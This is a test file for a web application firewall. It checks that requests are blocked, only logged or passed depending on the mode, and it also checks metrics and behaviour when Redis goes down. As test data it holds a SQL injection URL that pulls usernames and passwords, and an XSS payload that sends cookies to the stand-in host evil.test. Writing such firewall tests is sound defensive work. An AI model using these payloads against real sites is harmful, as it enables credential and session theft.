import { EdgeSetting } from '../testing/edge-setting.ts';
import { bodyOf } from '../testing/test-origin.ts';
import { eventually, sendRaw } from '../testing/visit.ts';
import { eventsOf, guardedSite } from './testing/guarded-site.ts';

const injection = "/?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--";
const script = '<script>document.location="https://evil.test/?c="+document.cookie</script>';
const asForm = { 'content-type': 'application/x-www-form-urlencoded' };
const form = (value: string) => ({ method: 'POST', headers: asForm, body: `comment=${encodeURIComponent(value)}&name=Anna` });

let setting: EdgeSetting;
beforeAll(async () => {
  setting = await EdgeSetting.start();
}, 90_000);
afterAll(() => setting.stop(), 30_000);
beforeEach(() => {
  setting.origin.seen.length = 0;
  setting.origin.answer = (request, response) => void bodyOf(request).then((body) => response.end(`got ${body.length}`));
});

test('an attack in the URL is refused before the origin hears of it; the page names the request and never the rule', async () => {
  const site = await guardedSite(setting);
  const answer = await site.visit(injection, { headers: { accept: 'text/html' } });
  expect(answer.status).toBe(403);
  expect(answer.body).toContain('took this request for an attack');
  expect(answer.body).toContain(String(answer.headers['x-request-id']));
  expect(answer.body).not.toMatch(/sqli|UNION/i);
  expect(setting.origin.seen).toEqual([]);
  expect((await site.visit('/?q=shoes&page=2')).status).toBe(200);
  const { detections, refusals } = await eventually(async () => {
    const events = await eventsOf(setting, site.siteId);
    expect(events.refusals).toHaveLength(1);
    return events;
  });
  const requestId = answer.headers['x-request-id'];
  expect(refusals[0]).toMatchObject({ requestId, stage: 'firewall', reason: 'attack', status: 403, path: '/' });
  expect(refusals[0]?.matched).toContain('sqli-');
  expect(detections).toHaveLength(1);
  expect(detections[0]).toMatchObject({ requestId, blocked: true, wouldBlock: false, reason: 'attack' });
  expect(detections[0]?.matches[0]).toMatchObject({ family: 'sqli', place: 'query', name: 'id' });
});

test('an attack in a body is refused, an ordinary one goes on as it came', async () => {
  const site = await guardedSite(setting);
  expect(await site.visit('/comment', form(script))).toMatchObject({ status: 403 });
  expect(setting.origin.seen).toEqual([]);
  const ordinary = form('Select a table and order by phone. It’s O’Reilly’s.');
  expect(await site.visit('/comment', ordinary)).toMatchObject({ status: 200, body: `got ${ordinary.body.length}` });
});

test('detect lets everything through and tells what it would have refused', async () => {
  const site = await guardedSite(setting, { mode: 'detect' });
  expect((await site.visit(injection)).status).toBe(200);
  const posted = form(script);
  expect(await site.visit('/comment', posted)).toMatchObject({ status: 200, body: `got ${posted.body.length}` });
  await eventually(async () => {
    const { detections, refusals } = await eventsOf(setting, site.siteId);
    expect(detections.map(({ blocked, wouldBlock, method }) => [blocked, wouldBlock, method])).toEqual([
      [false, true, 'GET'],
      [false, true, 'POST'],
    ]);
    expect(refusals).toEqual([]);
  });
});

test('off: nothing is looked at', async () => {
  const site = await guardedSite(setting, { mode: 'off' });
  expect((await site.visit(injection)).status).toBe(200);
  expect((await site.visit('/comment', form(script))).status).toBe(200);
});

test('an upgrade to WebSocket is judged like any request', async () => {
  const site = await guardedSite(setting);
  const upgrade = (path: string) =>
    sendRaw(
      setting.port,
      `GET ${path} HTTP/1.1\r\nHost: ${site.hostname}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
    );
  expect(await upgrade(injection)).toMatch(/^HTTP\/1\.1 403/);
  expect(setting.origin.seen).toEqual([]);
  expect(await upgrade('/chat?room=7')).toMatch(/^HTTP\/1\.1 (?!403)/);
});

test('the figures tell what was found, and what became of it', async () => {
  const figures = async () => {
    const all = await setting.edge.metrics.getMetricsAsJSON();
    const found = all.find(({ name }) => name === 'sitekeep_edge_firewall_detections_total');
    return Object.fromEntries((found?.values ?? []).map(({ labels, value }) => [labels['outcome'] as string, value]));
  };
  const before = await figures();
  const [blocking, watching] = [await guardedSite(setting), await guardedSite(setting, { mode: 'detect' })];
  await blocking.visit(injection);
  await blocking.visit('/comment', form(script));
  await watching.visit(injection);
  const after = await figures();
  expect(after['blocked']! - before['blocked']!).toBe(2);
  expect(after['would_block']! - before['would_block']!).toBe(1);
  expect(await setting.edge.metrics.metrics()).toContain('sitekeep_edge_verdicts_total{stage="firewall",verdict="attack"}');
});

test('without Redis the firewall goes on', async () => {
  const site = await guardedSite(setting);
  expect((await site.visit('/')).status).toBe(200);
  await setting.redis.kill();
  expect((await site.visit(injection)).status).toBe(403);
  expect((await site.visit('/comment', form(script))).status).toBe(403);
  expect((await site.visit('/comment', form('A fine day.'))).status).toBe(200);
  await setting.redis.restart();
  await eventually(async () => {
    const { refusals } = await eventsOf(setting, site.siteId);
    expect(refusals.map(({ reason }) => reason)).toEqual(['attack', 'attack']);
  }, 10_000);
}, 20_000);
